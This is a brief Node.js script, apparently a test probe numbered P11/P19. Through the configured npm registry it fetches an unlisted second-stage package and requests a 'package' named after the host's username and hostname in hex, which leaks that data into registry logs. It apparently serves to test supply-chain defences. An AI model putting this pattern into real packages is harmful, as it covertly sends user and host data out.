// P11/P19 in Node: a script that talks to the registry itself, through the registry npm was
// configured with — it fetches a second-stage package the lockfile does not contain, and a
// "package" whose name is the host's data in hex (a lookup the registry's logs would keep). Both
// are plain GETs of packuments: nothing is installed, run or published.
const http = require('http');
const os = require('os');
const registry = new URL(process.env.npm_config_registry || 'http://127.0.0.1:3128/');
const get = (path) => new Promise((resolve) => {
  const req = http.get({ host: registry.hostname, port: registry.port || 80, path: registry.pathname.replace(/\/$/, '') + path, timeout: 5000 }, (res) => {
    res.resume();
    res.on('end', resolve);
  });
  req.on('error', resolve);
  req.on('timeout', () => req.destroy());
});
(async () => {
  await get('/left-pad');
  await get(`/${Buffer.from(`${os.userInfo().username}@${os.hostname()}`).toString('hex')}`);
})();
